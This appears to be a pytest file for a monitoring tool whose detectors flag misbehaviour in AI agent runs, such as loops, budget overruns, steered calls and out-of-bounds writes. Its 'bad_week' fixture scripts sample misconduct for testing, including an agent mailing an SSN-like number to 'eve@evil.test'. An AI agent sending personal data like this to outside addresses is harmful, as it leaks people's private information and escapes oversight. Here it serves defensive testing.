"""Contract of the watch: a restart changes nothing, one broken detector stops no other, and state stays bounded."""

from __future__ import annotations

import sys
from datetime import datetime, timedelta
from typing import Any

import pytest

from stopwork.detect.detector import Detector, Finding
from stopwork.detect.registry import DETECTORS, DetectorFailed, Watch, restore
from stopwork.detect.rulebook import Rulebook
from stopwork.ledger.events import EVENT_TYPES, Entry, Event, StepRecorded
from stopwork.ledger.records import Effect, Image, ObjectRef, Reason, Record, Suspicion
from stopwork.ledger.words import (
    Clue,
    EffectKind,
    Operation,
    ReasonKind,
    RunStatus,
    ScopeKind,
    StepKind,
    Verdict,
)
from stopwork.manifest.alerts import REPORT_RULES
from stopwork.manifest.model import Alerts
from tests.unit.detect.manifests import TOOLS, manifest
from tests.unit.detect.story import START, WORKFLOW, Story, rules_of

RULES = rules_of(
    manifest(
        budget={"run_usd": 2.5},
        sources={"inbox": {"trust": "external", "fresh_within": "1d"}},
        schedule={"cron": "0 8 * * MON", "timezone": "America/New_York", "finish_within": "45m"},
        tools=TOOLS | {"mail.send": TOOLS["mail.send"] | {"only_to": ["acme.test"]}},
        runtime={"model": "gpt-5-mini"},
        objects={"crm/account": {"fields": {"amount": {"max": 10}}}},
        alerts={
            "duplicate_action": {"key": ["args.same"]},
            "loop": {"repeats": 5},
            "unusual_arguments": {"after": 10},
        },
    )
)
LOOK = START + timedelta(days=8)
PAST_DUE = Reason(kind=ReasonKind.CONDITION, verdict=Verdict.DENY, text="denied when args.due < now")

STEERED = Suspicion(score=4.0, clues=(Clue.DICTATED,), record="P", source="inbox")
UNASKED = Reason(kind=ReasonKind.GATE, verdict=Verdict.WAIT, text="approval by business is needed")

ACME = ObjectRef(system="crm", type="account", id="acme")
WRONG = Effect(
    id="effect-1",
    call="W",
    run="r1",
    workflow=WORKFLOW,
    tool="crm.update_account",
    object=ACME,
    operation=Operation.MODIFIED,
    before=Image.present({"amount": 1}),
    after=Image.present({"amount": 11}),
    at=START,
    source="declared",
    object_key=str(ACME),
)

ANOTHER_MODEL = StepRecorded(
    step="s", run="r1", workflow=WORKFLOW, kind=StepKind.MODEL_CALL, name="think", facts={"model": "another"}
)


def bad_week() -> Story:
    story = Story(START - timedelta(days=1)).applied().after(days=1).run("r1")
    for number in range(5):
        story.call(f"again{number}", "r1", tool="crm.list_accounts", verdict=Verdict.DENY)
    story.call("M", tool="mail.send", effect=EffectKind.SEND, to="eve@evil.test", body="SSN 536-22-8714")
    story.retrieval("inbox", old=timedelta(days=3)).call("P", verdict=Verdict.DENY, reasons=(PAST_DUE,))
    story.step(cost_usd=2.4).call("A", same="acme").timed_out("A").call("B", same="acme").outcome("B")
    story.after(minutes=5).call("C", same="acme").hold("h1", ScopeKind.TOOL, "crm.create_task").step(
        cost_usd=1
    )
    story.call("G", tool="mail.send", reasons=(UNASKED,)).outcome("G")
    story.call("I", tool="mail.send", suspicion=STEERED)
    for number in range(12):
        story.call(f"U{number}", "r1", tool="crm.update_account", x=number if number < 11 else "eleven")
    story.call("I", tool="mail.send", suspicion=STEERED)
    story.call("W", tool="crm.update_account").outcome("W", effects=(WRONG,))
    story.write(ANOTHER_MODEL)
    return story.finished("r1", RunStatus.FAILED).run("r2", retry_of="r1").call("D", "r2", same="bolt")


def found_by(watch: Watch, entries: list[Entry]) -> list[Finding]:
    found: list[Finding] = []
    for entry in entries:
        watch, new, failures = watch.step(entry, RULES)
        assert not failures
        found += new
    return [*found, *watch.tick(LOOK, RULES)[1]]


def test_the_bad_week_is_told_by_every_detector() -> None:
    assert {finding.detector for finding in found_by(Watch(), bad_week().entries)} == {
        d.name for d in DETECTORS
    }


@pytest.mark.parametrize("restart_after", range(len(bad_week().entries)))
def test_a_restart_at_any_entry_changes_nothing(restart_after: int) -> None:
    entries = bad_week().entries
    watch = Watch()
    before: list[Finding] = []
    for entry in entries[:restart_after]:
        watch, found, _ = watch.step(entry, RULES)
        before += found
    assert before + found_by(restore(watch.dump()), entries[restart_after:]) == found_by(Watch(), entries)


def test_a_detector_the_store_does_not_know_starts_afresh() -> None:
    assert restore(b"{}").dump() == Watch().dump()


def test_a_state_that_another_version_wrote_is_begun_anew_and_that_is_told_once() -> None:
    entries = bad_week().entries
    watch = restore(b'{"cost":{"runs":"of another kind"},"loop":{}}')
    watch, found, failures = watch.follow(entries, RULES)
    assert [each.detector for each in failures] == ["cost"]
    assert "of another kind" not in failures[0].error
    assert {"cost", "loop"} <= {finding.detector for finding in found}
    assert watch.follow((), RULES)[2] == ()


class Nothing(Record):
    """No state."""


class Broken(Detector[Nothing]):
    """Raises at every entry."""

    name = "broken"
    watches = EVENT_TYPES
    state_type = Nothing

    def step(self, state: Nothing, entry: Entry, rules: Rulebook) -> tuple[Nothing, tuple[Finding, ...]]:
        raise ValueError("cannot read this")


def test_a_broken_detector_is_told_and_blinds_no_other() -> None:
    watch = Watch(detectors=(Broken(), *DETECTORS))
    found: list[Finding] = []
    failures: list[DetectorFailed] = []
    for entry in bad_week().entries:
        watch, new, failed = watch.step(entry, RULES)
        found += new
        failures += failed
    assert {finding.detector for finding in found} >= {"duplicate_action", "failed_run"}
    assert {(each.detector, each.error) for each in failures} == {("broken", "ValueError: cannot read this")}


def test_the_same_entries_twice_add_nothing() -> None:
    """A journal reader that starts again a little too early must not invent a second incident."""
    entries = [entry for entry in bad_week().entries if type(entry.event).__name__ != "StepRecorded"]
    once = found_by(Watch(), entries)
    twice = found_by(Watch(), [*entries, *entries])
    assert {(f.detector, f.key, f.call) for f in twice} == {(f.detector, f.key, f.call) for f in once}


@pytest.mark.parametrize("detector", DETECTORS, ids=lambda each: each.name)
def test_a_detector_watches_every_event_that_its_module_knows(detector: Detector[Any]) -> None:
    """A ``case`` for an event that is not watched would never be reached."""
    known = vars(sys.modules[type(detector).__module__]).values()
    events = {each for each in known if isinstance(each, type) and issubclass(each, Event)}
    assert events - {Event} == set(detector.watches)


@pytest.mark.parametrize("detector", DETECTORS, ids=lambda each: each.name)
def test_what_a_detector_does_not_watch_shows_it_nothing(detector: Detector[Any]) -> None:
    for handed in (bad_week().entries, bad_week().entries[::-1]):
        state, found = detector.start(), list[Finding]()
        for entry in handed:
            after, new = detector.step(state, entry, RULES)
            if type(entry.event) not in detector.watches:
                assert (after, new) == (state, ())
            state = after
            found += new
        watch, seen, _ = Watch(detectors=[detector]).follow(handed, RULES)
        assert list(seen) == found
        assert watch.dump() == Watch({detector.name: state}, [detector]).dump()


def test_every_alert_rule_of_the_manifest_has_its_detector_and_every_detector_its_rule() -> None:
    found_by = [detector.name for detector in DETECTORS]
    assert sorted([*found_by, *REPORT_RULES]) == sorted(Alerts.__struct_fields__)


def test_a_quiet_clock_finds_nothing() -> None:
    watch, found, failures = Watch().tick(datetime(2026, 1, 1, tzinfo=START.tzinfo), RULES)
    assert (found, failures) == ((), ())
    assert watch.dump() == Watch().dump()
